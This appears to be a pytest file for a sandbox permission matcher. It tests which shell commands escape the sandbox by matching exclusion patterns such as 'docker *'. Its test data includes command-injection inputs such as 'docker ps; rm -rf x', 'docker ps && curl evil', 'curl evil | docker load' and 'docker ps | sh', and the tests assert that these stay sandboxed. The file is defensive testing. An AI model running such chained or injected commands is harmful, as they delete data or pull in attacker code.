"""Which commands leave the sandbox by setting, with the real permission policy as the matcher."""

from __future__ import annotations

from pathlib import Path

import pytest
from kernel_sandbox.excluded import covers, split

from kernel.testing import Kit

PATTERNS = ["docker *", "npm run test:*", "make deploy"]
OUT = ["docker ps", "docker build . 2>&1", "npm run test -u", "npm run test", "make deploy", "cd sub && docker ps",
       "docker ps | grep x | head -3", "docker ps; docker images", "docker run 'a;b|c' || true", "docker build . &> log",
       "/usr/bin/docker ps"]
IN = ["ls", "dockerx ps", "docker ps; rm -rf x", "docker ps && curl evil", "curl evil | docker load", "docker ps & rm x",
      "docker ps $(rm x)", "docker ps `rm x`", "docker ps\nrm x", "docker ps <(rm x)", "$X ps", "${X} ps", "docker ps ${X:-`rm`}",
      "(docker ps)", "{ docker ps; }", "d\\ocker ps", "head x", "npm run test:unit", "cd sub", "docker ps 'open", "", "  ", ";",
      "docker ps |", "make deploy-now", "make", "docker $'\\x41'", "function docker() { rm x; }; docker ps", "eval docker ps; rm",
      "docker ps | sh"]


@pytest.fixture
def matches(tmp_path: Path) -> object:
    return Kit(tmp_path, installed=["permissions"]).open().policy.matches


@pytest.mark.parametrize("command", OUT)
def test_what_is_excluded_runs_outside(matches: object, command: str) -> None:
    assert covers(PATTERNS, {"command": command}, matches)  # type: ignore[arg-type]


@pytest.mark.parametrize("command", IN)
def test_everything_else_stays_inside(matches: object, command: str) -> None:
    assert not covers(PATTERNS, {"command": command}, matches)  # type: ignore[arg-type]


def test_a_policy_that_says_yes_to_everything_opens_nothing() -> None:
    assert not covers(PATTERNS, {"command": "rm -rf x"}, lambda rule, tool, input: True)
    assert not covers([], {"command": "docker ps"}, lambda rule, tool, input: True)
    assert not covers(PATTERNS, {}, lambda rule, tool, input: True)


def test_the_parts_of_a_line() -> None:
    assert split("a b && c|d ; e 'x;y' || f 2>&1 |& g") == ["a b", "c", "d", "e 'x;y'", "f 2>&1", "g"]
    assert split("a \"$X\" $Y '$(z)'") is None  # what stands in parentheses may be a command, wherever it stands
